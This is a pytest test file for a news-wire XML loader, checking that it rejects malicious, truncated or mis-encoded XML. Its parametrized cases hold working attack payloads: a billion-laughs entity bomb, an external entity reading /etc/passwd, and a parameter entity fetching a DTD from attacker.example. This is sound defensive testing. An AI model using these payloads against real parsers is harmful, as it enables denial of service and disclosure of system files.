"""XML that means harm, is damaged, or lies about its encoding."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from analysis.loading import Limits, load
from analysis.loading.records import Reject
from analysis.loading.xml_safe import Document, parse_xml, root_name

TEXT = "<p>Ferries crossed the strait.</p>"
ITEM = (
    "<newsItem guid='g'><contentSet><inlineXML><html><body>{}</body></html></inlineXML>"
    "</contentSet></newsItem>"
)
NITF = "<nitf><body><body.content>{}</body.content></body></nitf>"
NEWSML = (
    "<NewsML><NewsItem><NewsComponent><ContentItem><DataContent>{}</DataContent></ContentItem>"
    "</NewsComponent></NewsItem></NewsML>"
)
SHAPES = (ITEM, NITF, NEWSML)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 20))


def load_xml(folder: Path, data: bytes | str, limits: Limits | None = None):
    (folder / "wire.xml").write_bytes(data if isinstance(data, bytes) else data.encode())
    started = time.process_time()
    loaded = load(folder / "wire.xml", limits=limits)
    assert time.process_time() - started < 30
    return loaded


def parse(data: bytes | str) -> Document | Reject:
    data = data if isinstance(data, bytes) else data.encode()
    return parse_xml(data, "wire.xml", "nitf", Limits())


@pytest.mark.parametrize("shape", SHAPES, ids=["newsml_g2", "nitf", "newsml_1"])
@pytest.mark.parametrize(
    ("doctype", "inside"),
    [
        (f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>', "<p>&l19;</p>"),
        ('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>', "<p>&f;</p>"),
        ('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>', TEXT),
        (f'<!-- a --><?b c?><!DOCTYPE x SYSTEM "d" [<!ENTITY a "{"a" * 10000}">]>', "<p>&a;</p>"),
    ],
    ids=["billion laughs", "external entity", "parameter entity", "after a comment"],
)
def test_entity_declarations_are_refused(tmp_path, shape, doctype, inside):
    loaded = load_xml(tmp_path, '<?xml version="1.0"?>' + doctype + shape.format(inside))
    assert loaded.dispatches.empty
    assert loaded.rejects["reason"].tolist() == ["XML that declares entities of its own"]


@pytest.mark.parametrize("shape", SHAPES, ids=["newsml_g2", "nitf", "newsml_1"])
def test_an_external_document_type_is_passed_over_unread(tmp_path, shape):
    secret = tmp_path / "secret.dtd"
    secret.write_text('<!ENTITY s "the secret">')
    doctype = f'<!DOCTYPE x SYSTEM "{secret.as_uri()}">'
    loaded = load_xml(tmp_path, doctype + shape.format("<p>A strait, &s; and caf&eacute;.</p>"))
    assert loaded.dispatches["body"].tolist() == ["A strait, &s; and café."]


def test_a_document_type_in_a_comment_is_no_document_type():
    assert isinstance(parse("<!-- <!DOCTYPE x [ --><nitf/>"), Document)


@pytest.mark.parametrize("shape", SHAPES, ids=["newsml_g2", "nitf", "newsml_1"])
@pytest.mark.parametrize("share", [0.2, 0.5, 0.9, 0.99])
def test_a_truncated_file_is_one_reject_with_its_line(tmp_path, shape, share):
    whole = shape.format("\n".join([TEXT] * 50))
    loaded = load_xml(tmp_path, whole[: int(len(whole) * share)])
    assert loaded.dispatches.empty
    assert loaded.rejects["reason"].tolist() == ["XML not well-formed"]
    assert loaded.rejects.loc[0, "place"].startswith("line ")


@pytest.mark.parametrize("shape", SHAPES, ids=["newsml_g2", "nitf", "newsml_1"])
@pytest.mark.parametrize(
    "inside",
    [
        "<div>" * 10_000 + "x" + "</div>" * 10_000,
        "<p a='" + "x" * 12_000_000 + "'/>",
        "<p>" + "<![CDATA[" * 500_000,
        "<!--" * 500_000,
        "<p>" + "&x" * 1_000_000 + "</p>",
    ],
    ids=["deep", "huge attribute", "open CDATA", "open comments", "open references"],
)
def test_absurd_markup_is_a_reject(tmp_path, shape, inside):
    loaded = load_xml(tmp_path, shape.format(inside))
    assert loaded.dispatches.empty
    assert len(loaded.rejects) == 1


def test_a_50_megabyte_attribute_is_refused_by_size_and_by_the_parser(tmp_path):
    data = NITF.format("<p a='" + "x" * 50_000_000 + "'/>")
    first = load_xml(tmp_path, data)
    assert first.rejects["reason"].tolist() == ["XML too large"]
    second = load_xml(tmp_path, data, Limits(page_bytes=100_000_000))
    assert second.rejects["reason"].tolist() == ["XML not well-formed"]


def test_deep_html_carried_as_text_does_not_break_the_reader(tmp_path):
    deep = "<div>" * 10_000 + "Ferries crossed." + "</div>" * 10_000
    loaded = load_xml(tmp_path, NEWSML.format(f"<![CDATA[<p>{deep}</p>]]>"))
    assert len(loaded.dispatches) + len(loaded.rejects) == 1


@pytest.mark.parametrize("character", ["\x00", "\x0b", "\ufffe"])
def test_characters_that_xml_forbids_are_named_with_their_line(tmp_path, character):
    loaded = load_xml(tmp_path, "<nitf>\n<head/>" + character + NITF[6:].format(TEXT))
    assert loaded.rejects.loc[0, "reason"] == "character that XML forbids"
    assert loaded.rejects.loc[0, "found"] == f"U+{ord(character):04X}"
    assert loaded.rejects.loc[0, "place"] == "line 2"


@pytest.mark.parametrize(
    ("declared", "written", "noted"),
    [
        ("utf-8", "utf-8", False),
        ("iso-8859-1", "iso-8859-1", False),
        ("iso-8859-1", "cp1252", False),
        ("iso-8859-1", "utf-8", True),
        ("utf-8", "cp1252", True),
        ("klingon-1", "utf-8", True),
        ("utf-16", "utf-16", False),
        ("utf-16", "utf-16-le", False),
        ("iso-8859-7", "iso-8859-7", False),
    ],
)
def test_text_is_read_whatever_encoding_is_declared(tmp_path, declared, written, noted):
    words = "café “quay”" if written in ("utf-8", "cp1252", "utf-16", "utf-16-le") else "café é"
    words = "Σέλκ" if written == "iso-8859-7" else words
    data = f'<?xml version="1.0" encoding="{declared}"?>' + NITF.format(f"<p>{words} open</p>")
    loaded = load_xml(tmp_path, data.encode(written))
    assert loaded.dispatches["body"].tolist() == [f"{words} open"]
    assert (loaded.cuts["kind"] == "encoding").any() == noted


def test_an_undeclared_prefix_is_tolerated(tmp_path):
    loaded = load_xml(tmp_path, NITF.format("<p xsi:type='a'><x:b>Ferries</x:b> crossed.</p>"))
    assert loaded.dispatches["body"].tolist() == ["Ferries crossed."]


def test_named_characters_never_become_markup(tmp_path):
    loaded = load_xml(tmp_path, NITF.format("<p>a &LT;b&GT; &nbsp;c &amp; d</p>"))
    assert loaded.dispatches["body"].tolist() == ["a <b> \xa0c & d"]


@pytest.mark.parametrize(
    ("head", "name"),
    [
        (b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- <x> -->\n<a:nitf b='c'>", "nitf"),
        (b"<!DOCTYPE nitf SYSTEM 'a'>\n<nitf>", "nitf"),
        (b"<!DOCTYPE nitf [<!ENTITY a 'b>'>]><nitf>", "nitf"),
        ("<?xml version='1.0'?><NewsML>".encode("utf-16"), "NewsML"),
        (b"<!-- never closed <nitf>", None),
        (b"<?xml", None),
        (b"BAGHDAD, Jan 16 (MPA) - <nitf>", None),
        (b"", None),
        (b"<1>", None),
    ],
)
def test_the_root_is_named_without_parsing(head, name):
    assert root_name(head) == name


def test_other_roots_keep_the_reject_that_names_them(tmp_path):
    loaded = load_xml(tmp_path, '<?xml version="1.0"?><RBNews><content/></RBNews>')
    assert loaded.rejects.loc[0, "reason"] == "XML that is no web page"
    assert "<RBNews>" in loaded.rejects.loc[0, "found"]
